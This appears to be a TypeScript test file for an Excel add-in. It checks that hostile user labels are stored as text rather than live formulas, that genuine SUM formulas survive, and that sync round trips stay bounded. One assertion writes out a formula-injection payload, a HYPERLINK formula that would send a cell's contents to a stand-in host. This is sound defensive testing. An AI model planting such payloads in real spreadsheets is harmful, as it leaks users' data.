/**
 * Issue 11, formula injection, through ExcelWorkbookPort on the Excel mock (which takes written
 * values as Excel takes typed input, see excelMock.ts): every pane's output sheet keeps hostile
 * user text as text — only the spec's own formulas are formulas — in the same round trips.
 */
import { ExcelWorkbookPort } from "../../src/excel/ExcelWorkbookPort";
import { createExcelMock, countSyncs, type ExcelMock } from "./excelMock";
import { HOSTILE, PANE_SPECS, specFormulas, verdelenSpec } from "../fixtures/hostileSpecs";

function written(mock: ExcelMock, sheetName: string) {
  const cells = [...mock.sheet(sheetName).cells.values()];
  return {
    formulas: cells.flatMap((c) => (c.formula === undefined ? [] : [c.formula])),
    texts: new Set(cells.flatMap((c) => (typeof c.value === "string" ? [c.value] : []))),
    textFormats: cells.filter((c) => typeof c.value === "string" && c.value !== "").map((c) => c.numberFormat),
  };
}

describe("hostile labels stay text in every pane's output (Excel)", () => {
  test.each(PANE_SPECS)("%s", async (_pane, build) => {
    const spec = build();
    const mock = createExcelMock();
    const port = new ExcelWorkbookPort(mock.run);
    const syncs = await countSyncs(mock, async () => {
      const { sheetName } = await port.writeTable(spec);
      const { formulas, texts, textFormats } = written(mock, sheetName);
      const allowed = specFormulas(spec);
      expect(formulas.filter((f) => !allowed.has(f))).toEqual([]);
      for (const label of HOSTILE) expect(texts).toContain(label);
      expect(new Set(textFormats)).toEqual(new Set(["@"]));
    });
    expect(syncs).toBeLessThanOrEqual(3);
  });

  test("the mock is faithful: the same label written as a plain value becomes a formula", async () => {
    const mock = createExcelMock();
    await mock.run(async (context) => {
      context.workbook.worksheets.getItem("Blad1").getRange("A1:D1").values = [[...HOSTILE]];
      await context.sync();
    });
    expect(mock.formulas("Blad1", "A1:D1")).toEqual([['=HYPERLINK("http://x/?d="&A4;"Klik")', 1, -2, "=SUM(A1)"]]);
  });

  test("Verdelen keeps its live SUM formulas", async () => {
    const mock = createExcelMock();
    const { sheetName } = await new ExcelWorkbookPort(mock.run).writeTable(verdelenSpec());
    expect(mock.formulas(sheetName, "F4:H4")).toEqual([["=SUM(D4:E4)", expect.any(Number), "=F4+G4"]]);
    expect(mock.formulas(sheetName, "B9")).toEqual([["=SUM(B4:B8)"]]);
  });

  test("the same round trips at 10 and 10,000 hostile rows", async () => {
    const counts: number[] = [];
    for (const rows of [10, 10_000]) {
      const mock = createExcelMock();
      const port = new ExcelWorkbookPort(mock.run);
      const spec = verdelenSpec(rows);
      counts.push(await countSyncs(mock, () => port.writeTable(spec)));
      expect(written(mock, "Verdeling 2025").formulas.filter((f) => !specFormulas(spec).has(f))).toEqual([]);
    }
    expect(counts[0]).toBeLessThanOrEqual(3);
    expect(counts[1]).toBe(counts[0]);
  });

  test("a safe fix that writes a name writes it as text", async () => {
    const mock = createExcelMock({ sheets: { Blad1: [["Gemeente"], ["Bemheze"]] } });
    await new ExcelWorkbookPort(mock.run).updateCells("Blad1", [{ address: "A2", expected: "Bemheze", content: "+Bernheze" }]);
    expect(mock.formulas("Blad1", "A2")).toEqual([["+Bernheze"]]);
    expect(mock.numberFormats("Blad1", "A2")).toEqual([["@"]]);
  });
});
